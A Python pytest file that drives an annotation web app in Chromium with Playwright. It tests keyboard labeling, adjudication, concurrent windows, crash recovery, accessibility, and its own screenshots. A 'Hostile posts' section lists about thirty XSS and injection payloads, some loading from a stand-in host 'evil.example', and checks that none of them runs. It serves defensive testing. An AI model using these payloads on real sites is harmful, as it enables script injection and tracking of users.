"""The annotation page in a real browser: keys, two people, hostile posts, two windows, a kill.

`take_screenshots` makes the pictures of docs/screenshots from the invented items below:

    .venv/bin/python tests/labeling/test_web_browser.py
"""

from __future__ import annotations

import contextlib
import io
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from PIL import Image

from corpus.segments import split_body
from labeling.annotations import AnnotationStore, Draft, Role

CHROMIUM = shutil.which("chromium")
CHECKOUT = Path(__file__).resolve().parents[2]
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on the path")

SERVER = """
import sys
from datetime import UTC, datetime
from pathlib import Path
from labeling.annotations import AnnotationStore
from labeling.web import serve
store = AnnotationStore(Path(sys.argv[1]), clock=lambda: datetime.now(UTC))
serve(store, port=int(sys.argv[2]))
"""

# Invented items --------------------------------------------------------------------------------

QUESTION_HTML = """
<p>I have a folder of measurement files, one a day, and want all of them in one frame with a column
that says which file a row came from. Reading each file works. What I cannot find is how to add the
rows of one frame below those of another inside the loop:</p>
<pre class="lang-py"><code>import glob
import pandas as pd

for name in sorted(glob.glob("station-*.csv")):
    day = pd.read_csv(name, parse_dates=["time"])
    # and now?
</code></pre>
<p>There are about four hundred files of two thousand rows each, so speed matters a little, but I
would rather understand it than have it fast.</p>
"""
ANSWER_HTML = """
<p>Start with an empty frame and use <code>append</code>, which returns a new frame with the rows of
both:</p>
<pre class="lang-py"><code>frame = pd.DataFrame()
for name in sorted(glob.glob("station-*.csv")):
    day = pd.read_csv(name, parse_dates=["time"])
    day["file"] = name
    frame = frame.append(day, ignore_index=True)
</code></pre>
<p>Mind that it does not change <code>frame</code> in place, so the assignment is needed.
<code>ignore_index=True</code> numbers the rows anew; without it every file begins at 0 again,
which makes <code>frame.loc[0]</code> return four hundred rows.</p>
<p>The manual has <a href="https://pandas.example/docs/merging">a chapter on merging</a> with
pictures of every case.</p>
"""
OLD_MARKDOWN = """Start with an empty frame and use `append`:

    frame = pd.DataFrame()
    for name in sorted(glob.glob("station-*.csv")):
        day = pd.read_csv(name, parse_dates=["time"])
        frame.append(day)

The manual has [a chapter on merging](https://pandas.example/docs/merging) with pictures of every
case."""
NEW_MARKDOWN = """Start with an empty frame and use `append`, which returns a new frame with the
rows of both:

    frame = pd.DataFrame()
    for name in sorted(glob.glob("station-*.csv")):
        day = pd.read_csv(name, parse_dates=["time"])
        day["file"] = name
        frame = frame.append(day, ignore_index=True)

The manual has [a chapter on merging](https://pandas.example/docs/merging) with pictures of every
case."""


def make_content(
    title: str = "How do I stack data frames that I read in a loop?",
    question_html: str = QUESTION_HTML,
    answer_html: str = ANSWER_HTML,
) -> dict[str, Any]:
    body = split_body(answer_html)
    segments = [
        {"kind": one.kind, "start": one.start, "end": one.end, "language": one.language}
        for one in body.segments
    ]
    return {
        "site": "examples.invalid",
        "link": "https://examples.invalid/a/4711",
        "text_at": "2021-02-03T08:00:00Z",
        "judged_at": "2024-03-01T00:00:00Z",
        "question": {
            "title": title,
            "html": question_html,
            "tags": ["python", "pandas", "dataframe", "csv"],
            "score": 34,
            "author": "halfmoon",
            "created_at": "2016-05-12T17:21:00Z",
            "link": "https://examples.invalid/q/4700",
            "licence": "CC BY-SA 3.0",
        },
        "answer": {
            "post_id": 4711,
            "html": answer_html,
            "text": body.text,
            "segments": segments,
            "score": 57,
            "is_accepted": True,
            "author": "Tamsin Oake",
            "author_link": "https://examples.invalid/users/12",
            "created_at": "2016-05-12T18:02:00Z",
            "link": "https://examples.invalid/a/4711",
            "licence": "CC BY-SA 3.0",
        },
        "comments": [
            {
                "comment_id": 81,
                "created_at": "2016-05-12T19:40:00Z",
                "author": "halfmoon",
                "text": "So I forgot the assignment all the time. Thank you!",
                "score": 1,
                "licence": "CC BY-SA 3.0",
            },
            {
                "comment_id": 82,
                "created_at": "2019-11-02T07:15:00Z",
                "author": "r_vandermeer",
                "text": "Quadratic: each `append` copies everything so far. Collect the frames in "
                "a list and call `pd.concat` once.",
                "score": 22,
                "licence": "CC BY-SA 4.0",
            },
            {
                "comment_id": 83,
                "created_at": "2023-04-18T12:09:00Z",
                "author": "Ilse",
                "text": "`AttributeError: 'DataFrame' object has no attribute 'append'`. It was "
                "deprecated in 1.4 and removed in 2.0, see "
                "https://pandas.example/whatsnew/2.0.0",
                "score": 9,
                "licence": "CC BY-SA 4.0",
            },
        ],
        "history": [
            {
                "revision_id": 901,
                "at": "2016-05-12T18:02:00Z",
                "author": "Tamsin Oake",
                "kind": "created",
                "comment": "",
                "markdown": OLD_MARKDOWN,
            },
            {
                "revision_id": 902,
                "at": "2016-05-13T06:30:00Z",
                "author": "Tamsin Oake",
                "kind": "edited",
                "comment": "append does not work in place; keep the name of the file",
                "markdown": NEW_MARKDOWN,
            },
        ],
        "answers": [
            {
                "post_id": 5120,
                "created_at": "2022-09-20T10:00:00Z",
                "score": 12,
                "is_accepted": False,
                "author": "r_vandermeer",
                "excerpt": "Read all of them into a list first, then pd.concat(frames, "
                "keys=names): one copy in the end, and the keys say which file a row came from.",
            }
        ],
    }


def make_items(num: int) -> list[dict[str, Any]]:
    items = []
    for number in range(num):
        content = make_content(title=f"How do I stack data frames, variant {number}?")
        items.append({"item_id": f"examples/{number}", "content": content, "hidden": {}})
    return items


# Server and browser ----------------------------------------------------------------------------


class Served(NamedTuple):
    """A running server, its store's path, and the tokens by name."""

    url: str
    path: Path
    tokens: dict[str, str]
    process: subprocess.Popen[bytes]


def now() -> datetime:
    return datetime.now(UTC)


def make_store(
    path: Path, items: list[dict[str, Any]], **roles: Role
) -> tuple[AnnotationStore, dict[str, str]]:
    guideline = (CHECKOUT / "labeling" / "guideline.md").read_text(encoding="utf-8")
    store = AnnotationStore.create(path, items, guideline=guideline, clock=now)
    return store, {name: store.add_annotator(name, role) for name, role in roles.items()}


@contextlib.contextmanager
def serving(path: Path, tokens: dict[str, str]) -> Iterator[Served]:
    """Run the server in a process of its own."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-c", SERVER, str(path), str(port)]
    process = subprocess.Popen(command, cwd=CHECKOUT)
    try:
        url = f"http://127.0.0.1:{port}"
        for _ in range(200):
            with contextlib.suppress(urllib.error.URLError):
                urllib.request.urlopen(f"{url}/healthz", timeout=5).close()
                break
            time.sleep(0.05)
        yield Served(url, path, tokens, process)
    finally:
        process.kill()
        process.wait()


@contextlib.contextmanager
def browsing() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with browsing() as one:
        yield one


def log_in(browser: Any, served: Served, name: str, **options: Any) -> Any:
    """Open a page of a context of its own, logged in."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, **options)
    page = context.new_page()
    page.set_default_timeout(10_000)
    page.goto(f"{served.url}/login?token={served.tokens[name]}")
    return page


# Keys ------------------------------------------------------------------------------------------


class Typist:
    """Presses keys and counts them."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.num_keys = 0

    def press(self, *keys: str) -> None:
        for key in keys:
            self.page.keyboard.press(key)
            self.num_keys += 1

    def judge(self, *keys: str) -> None:
        """Press keys that save, and wait for what comes next."""
        self.press(*keys[:-1])
        with self.page.expect_navigation():
            self.press(keys[-1])


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    """Ten items, two annotators and an adjudicator."""
    path = tmp_path / "items.sqlite"
    store, tokens = make_store(
        path, make_items(10), ada="annotator", ben="annotator", eve="adjudicator"
    )
    store.close()
    with serving(path, tokens) as one:
        yield one


@contextlib.contextmanager
def reading(served: Served) -> Iterator[AnnotationStore]:
    """Open the store beside the server."""
    store = AnnotationStore(served.path, clock=now)
    try:
        yield store
    finally:
        store.close()


def test_ten_items_take_two_keys_each_and_no_mouse(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada")
    typist = Typist(page)
    for number in range(10):
        typist.judge("oct"[number % 3], "Enter")
    assert typist.num_keys < 3 * 10
    assert "Nothing left for you" in page.content()
    with reading(served) as store:
        labels = [one.draft.label for one in store.iter_judgements() if one.draft]
        assert sorted(labels) == ["cannot_tell"] * 3 + ["current"] * 3 + ["obsolete"] * 4
        assert all(one.draft and one.draft.seconds_spent > 0 for one in store.iter_judgements())


def test_every_part_of_a_judgement_has_keys(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada")
    item_id = page.url.partition("/item/")[2]
    typist = Typist(page)
    typist.press("Enter")  # nothing is chosen: nothing happens but a hint
    assert "Choose a label first" in page.inner_text("#notice")
    typist.press("o", "W", "W", "w", "w", "w", "l", "3", "2", "2", "]", "]", "e", "[", "e", "e")
    typist.press("n")
    page.keyboard.type("gone, since 2")
    typist.press("Enter")
    page.keyboard.type("really")
    typist.press("Escape", "]", "]", "]", "]", "e")
    for key, query in (("q", "#whole"), ("g", "#guideline"), ("?", "#keys dl")):
        before = page.locator(query).evaluate("one => one.checked || one.checkVisibility()")
        typist.press(key)
        assert (
            page.locator(query).evaluate("one => one.checked || one.checkVisibility()") != before
            or key == "q"
        )
    typist.judge("Enter")
    with reading(served) as store:
        judgement = store.current(item_id, "ada")
    assert judgement and judgement.draft
    draft = judgement.draft
    assert (draft.label, draft.cause, draft.confidence) == ("obsolete", "library", 3)
    assert draft.note == "gone, since 2\nreally"
    kinds = [(piece["kind"], piece.get("id")) for piece in draft.evidence]
    assert kinds[-1] == ("comment", 83) and kinds[0][0] == "span"
    typist.judge("u")
    assert page.url.endswith(item_id)
    assert page.input_value("textarea[name=note]") == "gone, since 2\nreally"
    assert page.is_checked("input[value=obsolete]")


def test_words_that_are_selected_become_evidence(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada")
    item_id = page.url.partition("/item/")[2]
    page.evaluate(
        """() => {
            const code = document.querySelector('.block.code code').firstChild;
            const at = code.data.indexOf('frame.append');
            const after = document.querySelectorAll('.block.prose p')[1].firstChild;
            window.getSelection().setBaseAndExtent(code, at, after, 'Mind that'.length);
        }"""
    )
    page.wait_for_selector("#mark-selection.ready")
    typist = Typist(page)
    typist.press("e")
    assert "frame.append" in page.inner_text("#evidence")
    page.reload()  # what was not saved is still there
    assert "frame.append" in page.inner_text("#evidence")
    typist.judge("o", "Enter")
    with reading(served) as store:
        judgement = store.current(item_id, "ada")
    assert judgement and judgement.draft
    (span,) = judgement.draft.evidence
    assert span["quote"] == "frame.append(day, ignore_index=True)\n\nMind that"


def test_it_works_without_scripts(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada", java_script_enabled=False)
    item_id = page.url.partition("/item/")[2]
    page.check("input[value=obsolete]", force=True)
    page.check("input[value='comment:83']", force=True)
    page.click("button.save")
    assert page.url.partition("/item/")[2] not in ("", item_id)
    page.click("button:has-text('Undo')")
    assert page.url.endswith(item_id)
    assert page.is_checked("input[value='comment:83']")


def test_what_is_not_saved_outlives_a_reload(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada")
    typist = Typist(page)
    typist.press("c", "h", "1", "n")
    page.keyboard.type("half a thought")
    page.reload()
    assert page.input_value("textarea[name=note]") == "half a thought"
    assert page.is_checked("input[value=current]") and page.is_checked("input[value='comment:81']")
    assert page.is_checked("input[name=confidence][value='1']")


# People ----------------------------------------------------------------------------------------


def test_two_people_at_once_never_see_each_other(browser: Any, served: Served) -> None:
    pages = {name: log_in(browser, served, name) for name in ("ada", "ben")}
    typists = {name: Typist(page) for name, page in pages.items()}
    for number in range(3):
        for name, page in pages.items():
            page.fill("textarea[name=note]", f"secret-of-{name}")
            page.locator("body").press("Escape")
            page.evaluate("document.activeElement.blur()")
            typists[name].judge("oc"[number % 2], "Enter")
            other = "ben" if name == "ada" else "ada"
            for path in ("", "/mine"):
                page.goto(served.url + path)
                assert f"secret-of-{other}" not in page.content()
            page.goto(served.url)
    with reading(served) as store:
        assert len(list(store.iter_judgements())) == 6


def test_a_disagreement_is_settled_by_keys(browser: Any, served: Served) -> None:
    with reading(served) as store:
        for item_id in ("examples/1", "examples/2"):
            store.save(item_id, "ada", Draft("obsolete", "library"), expected_revision=0)
            store.save(item_id, "ben", Draft("current"), expected_revision=0)
    page = log_in(browser, served, "eve")
    typist = Typist(page)
    typist.judge("Enter")
    typist.judge("a")
    adopted = page.input_value("input[name=label]:checked")
    typist.judge("Enter")
    typist.judge("c", "Enter")
    assert "is settled" in page.content()
    assert typist.num_keys == 5
    with reading(served) as store:
        assert store.disagreements() == []
        assert store.adjudicated_label("examples/1") == (adopted, "adjudicated")
        assert store.adjudicated_label("examples/2") == ("current", "adjudicated")


def test_a_stale_save_from_a_second_window_shows_both(browser: Any, served: Served) -> None:
    first = log_in(browser, served, "ada")
    item_url = first.url
    second = first.context.new_page()
    second.goto(item_url)
    Typist(first).judge("o", "Enter")
    Typist(second).judge("c", "Enter")
    assert "saved in another window" in second.content()
    shown = second.locator(".versions .label").all_inner_texts()
    assert shown == ["obsolete", "current"]
    Typist(second).judge("s")
    with reading(served) as store:
        judgement = store.current(item_url.partition("/item/")[2], "ada")
    assert judgement and judgement.draft
    assert (judgement.revision, judgement.draft.label) == (2, "current")


def test_what_was_acknowledged_outlives_a_kill(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada")
    typist = Typist(page)
    for _ in range(4):
        typist.judge("o", "Enter")
    served.process.send_signal(signal.SIGKILL)
    served.process.wait()
    with serving(served.path, served.tokens) as again:
        page = log_in(browser, again, "ada")
        assert page.inner_text(".progress b") == "4"
        with reading(again) as store:
            assert len(store.history("ada")) == 4
            assert store.check_log() > 4


# Hostile posts ---------------------------------------------------------------------------------

FIRE = "window.fired=(window.fired||0)+1;alert(1)"
AWAY = "https://evil.example"
PAYLOADS = [
    f"<script>{FIRE}</script>",
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror='{FIRE}'>",
    f"<img src={AWAY}/track.png>",
    f"<svg onload='{FIRE}'>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><image href={AWAY}/x.svg /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{FIRE}'>",
    f"<iframe src='javascript:{FIRE}'></iframe>",
    f"<iframe srcdoc='<script>{FIRE}</script>'></iframe>",
    f"<object data={AWAY}/x></object>",
    f"<embed src={AWAY}/x>",
    f"<video src={AWAY}/x autoplay onerror='{FIRE}'></video>",
    f"<audio src=x onerror='{FIRE}'></audio>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';</style>",
    f"<p style='background:url({AWAY}/x)'>x</p>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<input autofocus onfocus='{FIRE}'>",
    f"<details open ontoggle='{FIRE}'>x</details>",
    f"<body onload='{FIRE}'>",
    f"<a href='javascript:{FIRE}' autofocus>x</a>",
    f"</textarea><script>{FIRE}</script>",
    f"</title><script>{FIRE}</script>",
    f"\"'><script>{FIRE}</script>",
    f"--><script>{FIRE}</script>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
    f"`<img src=x onerror='{FIRE}'>`[x](javascript:{FIRE})",
    f"\u202e\u2066<xmp><img src=x onerror='{FIRE}'></xmp>",
]


FOUND = """() => [
    window.fired || 0,
    document.querySelectorAll(
        'img,svg,math,iframe,object,embed,video,audio,base,style,noscript,xmp,'
        + 'main link,main meta,main script,script:not([src])').length,
    document.querySelectorAll('form:not([action^="/"])').length]"""


def poison(value: Any, payload: str) -> Any:
    """Put a payload into every text, keeping times, kinds and numbers as they are."""
    if isinstance(value, dict):
        keep = ("created_at", "at", "text_at", "judged_at", "segments", "text")
        return {key: one if key in keep else poison(one, payload) for key, one in value.items()}
    if isinstance(value, list):
        return [poison(one, payload) for one in value]
    return f"poisoned {payload}" if isinstance(value, str) else value


def make_poisoned(payload: str) -> dict[str, Any]:
    content = poison(make_content(), payload)
    content["answer"]["text"] = split_body(content["answer"]["html"]).text
    for comment in content["comments"]:
        comment["text"] = f"poisoned {payload}"
    return dict(content)


@pytest.mark.parametrize(
    "payloads", [PAYLOADS[:5], pytest.param(PAYLOADS[5:], marks=pytest.mark.slow)]
)
def test_no_hostile_post_runs_or_calls_anything(
    browser: Any, tmp_path: Path, payloads: list[str]
) -> None:
    contents = [make_poisoned(payload) for payload in payloads]
    items = [
        {"item_id": f"x/{number}", "content": one, "hidden": {}}
        for number, one in enumerate(contents)
    ]
    path = tmp_path / "items.sqlite"
    store, tokens = make_store(path, items, ada="annotator", ben="annotator", eve="adjudicator")
    evidence = ({"kind": "comment", "id": 81},)
    for number, payload in enumerate(payloads):
        note = f"poisoned {payload}"
        for name, said in (("ada", Draft("obsolete")), ("ben", Draft("current"))):
            draft = replace(said, evidence=evidence, note=note)
            store.save(f"x/{number}", name, draft, expected_revision=0)
    store.close()
    requests: list[str] = []
    complaints: list[str] = []
    with serving(path, tokens) as served:
        for name, folder, others in (
            ("ada", "item", ["/mine"]),
            ("eve", "adjudicate", ["/adjudicate"]),
        ):
            page = log_in(browser, served, name)
            page.context.on("request", lambda request: requests.append(request.url))
            page.context.on("console", lambda message: complaints.append(message.text))
            page.context.on("weberror", lambda error: complaints.append(str(error.error)))
            page.on("dialog", lambda dialog: (complaints.append(dialog.message), dialog.dismiss()))
            for shown in [f"/{folder}/x/{number}" for number in range(len(items))] + others:
                page.goto(served.url + shown)
                assert page.url == served.url + shown
                assert "poisoned" in page.content()
                assert page.evaluate(FOUND) == [0, 0, 0], shown
    assert complaints == []  # a dialog, an error, or a violation of the policy would be one
    assert {url.split("/")[2] for url in requests} == {served.url.split("/")[2]}


# Looks -----------------------------------------------------------------------------------------

CONTRAST = """() => {
    const channel = (v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
    const canvas = new OffscreenCanvas(1, 1).getContext('2d', {willReadFrequently: true});
    const parse = (colour) => {
        canvas.clearRect(0, 0, 1, 1);
        canvas.fillStyle = colour;
        canvas.fillRect(0, 0, 1, 1);
        return Array.from(canvas.getImageData(0, 0, 1, 1).data);
    };
    const light = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const poor = [];
    while (walker.nextNode()) {
        const element = walker.currentNode.parentElement;
        if (!walker.currentNode.data.trim() || !element.checkVisibility()) continue;
        let ground = element;
        const back = (one) => getComputedStyle(one || document.body).backgroundColor;
        while (ground && parse(back(ground))[3] < 255) ground = ground.parentElement;
        const pair = [getComputedStyle(element).color, back(ground)];
        const [one, two] = pair.map((colour) => light(parse(colour)));
        const ratio = (Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05);
        if (ratio < 4.5) poor.push(walker.currentNode.data.trim() + ' ' + ratio.toFixed(2));
    }
    return poor;
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_all_text_can_be_read_and_fits(browser: Any, served: Served, scheme: str) -> None:
    """Contrast of at least 4.5 (WCAG AA), and no page wider than its window."""
    with reading(served) as store:
        store.save("examples/1", "ada", Draft("obsolete", "library", note="x"), expected_revision=0)
        store.save("examples/1", "ben", Draft("current"), expected_revision=0)
    for name, paths in (
        ("ada", ["/item/examples/1", "/mine", "/guideline"]),
        ("eve", ["/adjudicate/examples/1"]),
    ):
        page = log_in(browser, served, name, color_scheme=scheme)
        for path in paths:
            page.goto(served.url + path)
            for key in ("o", "g", "?", "3") if "examples" in path else ():
                page.keyboard.press(key)
            page.wait_for_timeout(200)  # colours fade in
            assert page.evaluate(CONTRAST) == []
            for width, height in ((1280, 800), (400, 800)):
                page.set_viewport_size({"width": width, "height": height})
                overflow = "document.documentElement.scrollWidth - innerWidth"
                assert page.evaluate(overflow) <= 0, (path, width)
            page.set_viewport_size({"width": 1280, "height": 800})


def test_the_form_stays_in_sight_and_nothing_jumps(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada")
    where = """() => [...document.querySelectorAll('.judge fieldset, .judge .save, .answer')]
        .map((one) => one.getBoundingClientRect().top)"""
    before = page.evaluate(where)
    assert max(before) < 800
    for key in ("o", "w", "l", "1", "2", "3", "Enter"):
        if key != "Enter":
            page.keyboard.press(key)
    page.evaluate("window.scrollTo(0, 0)")
    assert page.evaluate(where) == before


def test_every_control_has_a_name_and_shows_its_focus(browser: Any, served: Served) -> None:
    page = log_in(browser, served, "ada")
    unnamed = page.evaluate(
        """() => [...document.querySelectorAll(
                'button, a[href], input:not([type=hidden]), textarea')]
            .filter((one) => !(one.ariaLabel || one.textContent.trim()))
            .filter((one) => !one.labels?.[0]?.textContent.trim())
            .map((one) => one.outerHTML)"""
    )
    assert unnamed == []
    for _ in range(25):
        page.keyboard.press("Tab")
        outlined = page.evaluate(
            """() => {
                let one = document.activeElement;
                for (; one && one !== document.body; one = one.parentElement)
                    if (getComputedStyle(one).outlineStyle !== 'none') return true;
                return false;
            }"""
        )
        assert outlined, page.evaluate("document.activeElement.outerHTML")


# Screenshots -----------------------------------------------------------------------------------


def shoot(page: Any, path: Path) -> None:
    """Save a picture in 256 colours, which no eye tells from all of them: a third of the bytes."""
    with Image.open(io.BytesIO(page.screenshot())) as picture:
        picture.convert("RGB").quantize(256, dither=Image.Dither.NONE).save(path, optimize=True)


def take_screenshots(folder: Path) -> None:
    """Write annotate.png and adjudicate.png."""
    content = make_content()
    with tempfile.TemporaryDirectory() as temporary:
        items = [
            {"item_id": f"examples/{4711 + n}", "content": content, "hidden": {}} for n in range(24)
        ]
        path = Path(temporary) / "items.sqlite"
        store, tokens = make_store(path, items, ada="annotator", ben="annotator", eve="adjudicator")
        item_ids = [item["item_id"] for item in items]
        quote = "frame = frame.append(day, ignore_index=True)"
        start = content["answer"]["text"].index(quote)
        span = {"kind": "span", "start": start, "end": start + len(quote), "quote": quote}
        comment = {"kind": "comment", "id": 83}
        first = Draft("obsolete", "library", (span, comment), 3, "", 31)
        other = Draft(
            "current", None, (), 2, "Slow, and newer ways exist, but it does the job.", 44
        )
        store.save(item_ids[0], "ada", first, expected_revision=0)
        store.save(item_ids[0], "ben", other, expected_revision=0)
        for item_id in item_ids[1:9]:
            store.save(item_id, "ada", Draft("current", seconds_spent=38), expected_revision=0)
        store.close()
        with serving(path, tokens) as served, browsing() as browser:
            page = log_in(browser, served, "ada")
            for key in ("o", "w", "3", "l", "]", "]", "e"):
                page.keyboard.press(key)
            page.evaluate("document.activeElement.blur(); window.scrollTo(0, 0)")
            shoot(page, folder / "annotate.png")
            page = log_in(browser, served, "eve")
            page.keyboard.press("Enter")
            page.wait_for_url("**/adjudicate/*/*")
            page.keyboard.press("a")
            page.wait_for_url("**adopt=A")
            page.evaluate("window.scrollTo(0, 0)")
            shoot(page, folder / "adjudicate.png")


if __name__ == "__main__":
    take_screenshots(CHECKOUT / "docs" / "screenshots")
